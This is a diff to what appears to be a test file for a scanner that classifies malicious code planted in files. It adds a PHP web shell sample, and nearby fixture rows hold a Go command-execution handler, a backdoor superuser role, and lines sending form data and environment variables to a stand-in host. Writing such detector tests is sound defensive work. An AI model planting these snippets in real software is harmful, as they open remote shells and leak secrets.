@@ -119,6 +119,7 @@ describe('files that act', () => {
       'send-data',
     ],
     ['web/pay.html', "<script>navigator.sendBeacon('//x.example.net', new FormData(e.target))</script>\n", 'send-data'],
+    ['lib/up.inc', '<?php system($_GET["c"]); ?>\n', 'listen'],
     ['http/routes.go', 'exec.Command("sh", "-c", r.URL.Query().Get("c")).Run()\n', 'listen'],
     ['migrations/7.sql', "CREATE ROLE support LOGIN SUPERUSER PASSWORD 'x';\n", 'grant'],
     ['app/log.py', 'requests.post("https://x.example.net", json=dict(os.environ))\n', 'send-data'],
